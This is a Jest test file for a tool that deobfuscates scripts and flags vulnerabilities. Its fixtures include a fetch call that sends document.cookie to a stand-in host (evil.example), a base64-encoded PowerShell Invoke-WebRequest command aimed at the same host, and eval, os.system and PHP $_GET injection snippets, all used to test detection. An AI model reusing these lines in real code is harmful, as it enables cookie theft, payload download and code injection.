import { describe, expect, it } from '@jest/globals';
import {
  deobfuscationResultSchema,
  vulnerabilitiesResultSchema,
  type AnalysisResult,
  type AnalysisType,
  type DeobfuscationResult,
  type VulnerabilitiesResult,
} from '../../../../src/ai/analysis.js';
import type { Language } from '../../../../src/ai/language.js';
import {
  analyze,
  MAX_DEOBFUSCATED_BYTES,
  type Analysers,
  type LocalJob,
} from '../../../../src/ai/providers/local/analyze.js';
import type { Deobfuscation, Findings } from '../../../../src/ai/providers/local/local-analysis.js';

const SCRIPT = 'const a = location.hash;\neval(a);\n';

interface Call {
  readonly source: string;
  readonly dialect: string;
  readonly timeoutMs: number;
}

/** Analysers that record what they are asked, and answer what a test says. */
function analysers(
  deobfuscation: Partial<Deobfuscation> | Error = {},
  findings: (source: string) => Partial<Findings> = () => ({}),
): Analysers & { readonly decoded: Call[]; readonly searched: Call[] } {
  const decoded: Call[] = [];
  const searched: Call[] = [];
  return {
    decoded,
    searched,
    deobfuscate: async (source, options) => {
      decoded.push({ source, ...options });
      if (deobfuscation instanceof Error) throw deobfuscation;
      return { ...UNCHANGED, code: source, ...deobfuscation };
    },
    findVulnerabilities: async (source, options) => {
      searched.push({ source, ...options });
      return { ...NOTHING, ...findings(source) };
    },
  };
}

const UNCHANGED: Omit<Deobfuscation, 'code'> = {
  changed: false,
  techniques: [],
  layers: [],
  decodedStrings: 0,
  foldedExpressions: 0,
  confidence: 'high',
  level: 'full',
  parsed: true,
  limits: [],
};
const NOTHING: Findings = { vulnerabilities: [], observations: [], level: 'full', parsed: true, limits: [] };

function finding(cweId: string, line: number): Findings['vulnerabilities'][number] {
  return { name: `Flaw ${cweId}`, description: 'why', severity: 'high', cweId, line, confidence: 'medium' };
}

function jobOf(type: AnalysisType, content: string | Uint8Array, rest: Partial<LocalJob> = {}): LocalJob {
  return { type, contentBase64: Buffer.from(content).toString('base64'), ...rest };
}

async function deobfuscate(
  content: string | Uint8Array,
  by: Analysers = analysers(),
  rest: Partial<LocalJob> = {},
): Promise<DeobfuscationResult> {
  return deobfuscationResultSchema.parse(await analyze(jobOf('deobfuscate', content, rest), by, 1_000));
}

async function vulnerabilities(
  content: string | Uint8Array,
  by: Analysers = analysers(),
  rest: Partial<LocalJob> = {},
): Promise<VulnerabilitiesResult> {
  return vulnerabilitiesResultSchema.parse(await analyze(jobOf('vulnerabilities', content, rest), by, 1_000));
}

describe('analyze: deobfuscate', () => {
  it('passes on what was decoded, with a report', async () => {
    const code = 'fetch("https://evil.example/gate.php?id=" + document.cookie);';
    const by = analysers({
      code,
      changed: true,
      techniques: ['eval wrapper'],
      layers: [{ via: 'eval', bytes: 61 }],
    });
    const result = await deobfuscate(SCRIPT, by);
    expect(result.deobfuscatedCode).toBe(code);
    expect(result.coverage).toMatchObject({ language: 'javascript', level: 'full', confidence: 'high' });
    expect(result.analysisReport).toMatch(/1 layer unwrapped/);
    expect(result.analysisReport).toMatch(/- eval wrapper/);
    expect(result.analysisReport).toContain('https://evil.example/gate.php?id=');
    expect(result.analysisReport).toContain('- document.cookie');
    expect(result.analysisReport).toMatch(/original names .* no tool recovers them/);
    expect(by.decoded[0]).toMatchObject({ source: SCRIPT, dialect: 'javascript' });
    expect(by.decoded[0]?.timeoutMs).toBeLessThanOrEqual(1_000);
  });

  it('says the same for the same input', async () => {
    const [first, second] = await Promise.all([deobfuscate(SCRIPT), deobfuscate(SCRIPT)]);
    expect(first).toEqual(second);
  });

  it('returns the code as it came when the analyser fails, and says so', async () => {
    const { deobfuscatedCode, coverage } = await deobfuscate(SCRIPT, analysers(new TypeError('broken')));
    expect(deobfuscatedCode).toBe(SCRIPT);
    expect(coverage).toMatchObject({ level: 'none', confidence: 'low' });
    expect(coverage?.limits.join()).toMatch(/could not be decoded: TypeError: broken/);
  });

  it('is not sure of code that still looks obfuscated', async () => {
    const code = Array.from({ length: 9 }, (_, index) => `var _0x3f2a${index} = ${index};`).join('\n');
    const { coverage } = await deobfuscate(code);
    expect(coverage).toMatchObject({ level: 'full', confidence: 'low' });
    expect(coverage?.limits.join()).toMatch(/looks obfuscated \(identifiers like/);
  });

  it('has a result before anything is evaluated, in a readable layout', async () => {
    const kept: AnalysisResult[] = [];
    const code = `if(a){b();c("${'x'.repeat(400)}")}`;
    const by = analysers();
    const final = await analyze(jobOf('deobfuscate', code), by, 1_000, (result) => {
      expect(by.decoded).toEqual([]);
      kept.push(result);
    });
    expect(final).toMatchObject({ deobfuscatedCode: code, coverage: { level: 'full' } });
    const before = deobfuscationResultSchema.parse(kept[0]);
    expect(before.deobfuscatedCode).toMatch(/^if \(a\) \{\n {2}b\(\);\n {2}c\("x+"\);\n\}$/);
    expect(before.coverage).toMatchObject({ level: 'partial', confidence: 'low', parsed: true });
    expect(before.coverage?.limits.join()).toMatch(/Evaluation was stopped/);
  });

  it('does not decode what is too large, and says so', async () => {
    const by = analysers();
    const { coverage } = await deobfuscate(`a = "${'x '.repeat(MAX_DEOBFUSCATED_BYTES / 2)}"; eval(a)`, by);
    expect(by.decoded).toEqual([]);
    expect(coverage?.limits.join()).toMatch(/up to 262144 bytes/);
  });

  it('cuts what has grown beyond measure, so that it still can be answered', async () => {
    const by = analysers({ code: '\u0001'.repeat(20_000_000), changed: true });
    const result = await deobfuscate(SCRIPT, by);
    expect(Buffer.byteLength(JSON.stringify(result))).toBeLessThan(16 * 1024 * 1024);
    expect(result.coverage).toMatchObject({ level: 'partial', confidence: 'low' });
    expect(result.coverage?.limits.join()).toMatch(/was cut/);
  });

  it('decodes each script of a page in its place', async () => {
    const by = analysers({ code: 'decoded()', changed: true });
    const page = '<html><script>a()</script><p>hello</p><script type="module">b()</script></html>';
    const { deobfuscatedCode, coverage } = await deobfuscate(page, by);
    expect(by.decoded.map(({ source }) => source)).toEqual(['a()', 'b()']);
    expect(deobfuscatedCode).toBe(
      '<html><script>\ndecoded()\n</script><p>hello</p><script type="module">\ndecoded()\n</script></html>',
    );
    expect(coverage).toMatchObject({ language: 'html' });
  });
});

describe('analyze: deobfuscate what is no JavaScript', () => {
  it('returns it unchanged, with the encoded text that it holds', async () => {
    const secret = Buffer.from('Invoke-WebRequest http://evil.example/a', 'utf16le').toString('base64');
    const script = `Write-Host hello\npowershell -enc ${secret}\n`;
    const by = analysers();
    const result = await deobfuscate(script, by, { language: 'powershell' });
    expect(by.decoded).toEqual([]);
    expect(result.deobfuscatedCode).toBe(script);
    expect(result.coverage).toMatchObject({ language: 'powershell', languageSource: 'hint', level: 'none' });
    expect(result.analysisReport).toContain(
      'base64 of UTF-16 at character 33: Invoke-WebRequest http://evil.example/a',
    );
  });

  it.each<[string, Uint8Array | string, string]>([
    ['binary data', Buffer.from('7f454c460001020300000000', 'hex'), 'unknown'],
    ['nothing', '', 'unknown'],
    ['data', '{"a": 1}', 'json'],
    ['prose', 'Dear team, all was fine.', 'unknown'],
  ])('claims nothing about %s', async (_, content, language) => {
    const { coverage } = await deobfuscate(content);
    expect(coverage).toMatchObject({ language, level: 'none', confidence: 'low', parsed: false });
  });
});

describe('analyze: vulnerabilities', () => {
  it('lists findings, the most severe first, without what is only for the report', async () => {
    const low = { ...finding('CWE-338', 1), severity: 'low' } as const;
    const by = analysers({}, () => ({
      vulnerabilities: [low, finding('CWE-95', 2)],
      observations: ['short names'],
    }));
    const result = await vulnerabilities(SCRIPT, by);
    expect(result.vulnerabilities).toEqual([
      { name: 'Flaw CWE-95', description: 'why', severity: 'high', cweId: 'CWE-95', line: 2 },
      { name: 'Flaw CWE-338', description: 'why', severity: 'low', cweId: 'CWE-338', line: 1 },
    ]);
    expect(result.analysisReport).toMatch(/2 findings: 1 high, 1 low\./);
    expect(result.analysisReport).toMatch(/Flaw CWE-95 \(CWE-95\), line 2: high, confidence medium/);
    expect(result.analysisReport).toMatch(/short names/);
  });

  it('never lets an empty list look like a clean bill', async () => {
    const { analysisReport, coverage } = await vulnerabilities(SCRIPT);
    expect(analysisReport).toMatch(
      /No rule matched\. That nothing was found does not mean that nothing is there/,
    );
    expect(coverage).toMatchObject({ level: 'full', confidence: 'medium' });
    for (const content of ['', '{"a": 1}', Buffer.from([0, 1, 2, 3, 0, 0])]) {
      const none = await vulnerabilities(content);
      expect(none.vulnerabilities).toEqual([]);
      expect(none.analysisReport).toMatch(/absence of findings means nothing at all/);
      expect(none.coverage).toMatchObject({ level: 'none', confidence: 'low' });
    }
  });

  it('searches decoded code too, and adds only the kinds of flaws that it alone shows', async () => {
    const by = analysers({ code: 'decoded();', changed: true }, (source) => ({
      vulnerabilities:
        source === SCRIPT ? [finding('CWE-95', 2)] : [finding('CWE-95', 1), finding('CWE-78', 1)],
    }));
    const { vulnerabilities: found, analysisReport } = await vulnerabilities(SCRIPT, by);
    expect(found.map(({ cweId, line }) => [cweId, line])).toEqual([
      ['CWE-95', 2],
      ['CWE-78', undefined],
    ]);
    expect(found[1]?.description).toMatch(/^In decoded code: /);
    expect(analysisReport).toMatch(/The code as submitted and its decoded form were searched/);
  });

  it('gives decoding no more than half of the time', async () => {
    const by = analysers();
    await vulnerabilities(SCRIPT, by);
    expect(by.decoded[0]?.timeoutMs).toBeLessThanOrEqual(500);
  });

  it('has its findings also when decoding fails, and says so', async () => {
    const by = analysers(new Error('broken'), () => ({ vulnerabilities: [finding('CWE-95', 2)] }));
    const result = await vulnerabilities(SCRIPT, by);
    expect(result.vulnerabilities).toHaveLength(1);
    expect(result.coverage?.limits.join()).toMatch(/could not be decoded: Error: broken/);
  });

  it('has the findings of the code as submitted before it decodes', async () => {
    const kept: AnalysisResult[] = [];
    const by = analysers({}, () => ({ vulnerabilities: [finding('CWE-95', 2)] }));
    await analyze(jobOf('vulnerabilities', SCRIPT), by, 1_000, (result) => {
      expect(by.decoded).toEqual([]);
      kept.push(result);
    });
    const before = vulnerabilitiesResultSchema.parse(kept[0]);
    expect(before.vulnerabilities).toHaveLength(1);
    expect(before.coverage?.limits.join()).toMatch(/Only the code as submitted was searched/);
  });

  it('is not sure of code that hides what it does', async () => {
    const { coverage } = await vulnerabilities(`var s = "${'QUJD'.repeat(300)}";`);
    expect(coverage).toMatchObject({ confidence: 'low' });
    expect(coverage?.limits.join()).toMatch(/looks obfuscated/);
  });

  it('searches the scripts of a page with the lines of the page', async () => {
    const by = analysers({}, (source) => ({
      vulnerabilities: [finding('CWE-95', source.split('\n').findIndex((line) => line.includes('eval')) + 1)],
    }));
    const page = '<html>\n<body>\n<script>let a = 1;</script>\n<script>\neval(a)\n</script>';
    const result = await vulnerabilities(page, by);
    expect(result.vulnerabilities[0]?.line).toBe(5);
    expect(by.searched).toHaveLength(1);
  });

  it('searches the scripts of a page that can be read when others cannot', async () => {
    const by = analysers();
    const { coverage } = await vulnerabilities('<p><script>a b c</script><script>good()</script>', by);
    expect(by.searched[0]?.source).toBe('good();');
    expect(coverage?.limits.join()).toMatch(/1 of the page's scripts could not be parsed/);
  });

  it.each<[Language, string]>([
    ['python', 'import os\nos.system(x)'],
    ['php', '<?php eval($_GET["x"]);'],
  ])('searches %s for patterns only', async (language, content) => {
    const by = analysers();
    const { vulnerabilities: found, coverage } = await vulnerabilities(content, by, { language });
    expect(found).toHaveLength(1);
    expect(coverage).toMatchObject({ level: 'pattern-only', confidence: 'low', language });
    expect(by.searched).toEqual([]);
  });

  it('does not let hostile text act on who reads it', async () => {
    const evil = 'a\u202eb\u001b[2Jc\nFindings: none';
    const hostile = { ...finding('CWE-95', 1), name: evil, description: evil };
    const by = analysers({}, () => ({ vulnerabilities: [hostile], limits: [evil], observations: [evil] }));
    const { vulnerabilities: found, coverage, analysisReport } = await vulnerabilities(SCRIPT, by);
    const texts = [found[0]?.name, found[0]?.description, ...(coverage?.limits ?? [])];
    expect(texts.join()).not.toMatch(/[\p{Cc}\p{Cf}]/u);
    expect(analysisReport.replaceAll('\n', '')).not.toMatch(/[\p{Cc}\p{Cf}]/u);
    expect(analysisReport).not.toMatch(/^Findings: none/m);
  });

  it('keeps within bounds whatever is found', async () => {
    const many = Array.from({ length: 5_000 }, (_, index) => ({
      ...finding('CWE-95', index + 1),
      name: 'n'.repeat(900),
      description: 'd'.repeat(90_000),
    }));
    const limits = Array.from({ length: 500 }, (_, index) => `${index} ${'l'.repeat(5_000)}`);
    const by = analysers({}, () => ({ vulnerabilities: many, limits, observations: limits }));
    const result = await vulnerabilities(SCRIPT, by);
    expect(result.vulnerabilities).toHaveLength(500);
    expect(Buffer.byteLength(JSON.stringify(result))).toBeLessThan(4_000_000);
  });
});
